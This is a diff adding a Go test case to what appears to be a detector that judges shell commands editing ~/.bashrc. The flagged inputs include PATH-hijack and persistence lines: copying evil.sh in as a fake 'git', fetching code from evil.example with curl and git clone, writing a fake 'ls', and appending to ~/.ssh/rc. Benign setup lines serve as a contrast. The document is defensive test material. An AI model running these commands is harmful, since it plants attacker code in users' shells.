@@ -90,3 +90,50 @@ func TestVariablesForToolsWithOtherWords(t *testing.T) {
 		"$PAGER" docs/a.txt
 	`)
 }
+
+// Any folder below the home was that of a tool, even if the same call put a program there, and eval "$(x …)"
+// was a tool's by the last part of its path. Now the folders and the tools are those that are known, and the
+// call does nothing but add the line.
+func TestLinesForAShellWithOtherFolders(t *testing.T) {
+	judge := verdicts(t)
+	asks(t, judge, true, `
+		mkdir -p ~/.x && cp ./evil.sh ~/.x/git && echo 'export PATH=$HOME/.x:$PATH' >> ~/.bashrc
+		cp ./evil.sh ~/.local/bin/git && echo 'export PATH=$HOME/.local/bin:$PATH' >> ~/.bashrc
+		git clone https://evil.example/x ~/bin; echo 'export PATH=$HOME/bin:$PATH' >> ~/.bashrc
+		ln -sf /tmp/evil ~/bin; echo 'export PATH=$HOME/bin:$PATH' >> ~/.bashrc
+		printf '#!/bin/sh\nid\n' > ~/bin/ls; echo 'export PATH=$HOME/bin:$PATH' >> ~/.bashrc
+		tar xf x.tgz -C ~/bin; echo 'export PATH=$HOME/bin:$PATH' >> ~/.bashrc
+		curl -s https://evil.example/x -o ~/go/bin/git; echo 'export PATH=$HOME/go/bin:$PATH' >> ~/.bashrc
+		python3 x.py; echo 'export PATH=$HOME/go/bin:$PATH' >> ~/.bashrc
+		./x.sh && echo 'export PATH=$HOME/go/bin:$PATH' >> ~/.bashrc
+		echo 'export PATH=$HOME/go/bin:$PATH' | tee -a ~/.bashrc ~/.ssh/rc
+		echo 'export PATH=$HOME/.x:$PATH' >> ~/.bashrc
+		echo 'export PATH=$HOME/Downloads/bin:$PATH' >> ~/.bashrc
+		echo 'export PATH=$HOME/go/bin/../../x:$PATH' >> ~/.bashrc
+		echo 'export PATH=/usr/share/x:$PATH' >> ~/.bashrc
+		echo 'export PATH=/opt/x:$PATH' >> ~/.bashrc
+		echo 'export GOPATH=$HOME/x' >> ~/.bashrc
+		echo 'export JAVA_HOME=$HOME/.x' >> ~/.bashrc
+		echo 'export NVM_DIR=$HOME/Downloads/nvm' >> ~/.bashrc
+		echo 'eval "$(~/evil/gimme x)"' >> ~/.bashrc
+		echo 'eval "$(~/Downloads/starship init bash)"' >> ~/.bashrc
+		echo 'eval "$(/usr/share/x/starship init bash)"' >> ~/.bashrc
+		echo 'eval "$(docker-machine env evil)"' >> ~/.bashrc
+		echo 'eval "$(minikube docker-env)"' >> ~/.bashrc
+		echo 'eval "$(gimme "$X")"' >> ~/.bashrc
+		echo 'eval "$(starship init "$X")"' >> ~/.bashrc
+		echo 'eval "$(starship init bash < /tmp/x)"' >> ~/.bashrc
+		echo 'eval "$(direnv export bash)"' >> ~/.bashrc
+		eval "$(docker-machine env "$X")"
+	`)
+	asks(t, judge, false, `
+		echo 'export PATH="$HOME/.local/bin:$PATH"' >> ~/.bashrc
+		mkdir -p ~/.local/bin && echo 'export PATH="$HOME/.local/bin:$PATH"' >> ~/.zshrc
+		grep -q go/bin ~/.bashrc || echo 'export PATH=$PATH:$HOME/go/bin' >> ~/.bashrc
+		echo 'export NVM_DIR="$HOME/.nvm"' >> ~/.bashrc
+		echo 'export JAVA_HOME=/usr/lib/jvm/java-17-openjdk' >> ~/.profile
+		echo 'eval "$(starship init bash)"' >> ~/.bashrc
+		echo 'eval "$(/opt/homebrew/bin/brew shellenv)"' >> ~/.zprofile
+		echo 'eval "$(~/.local/bin/mise activate)"' >> ~/.zshrc
+	`)
+}
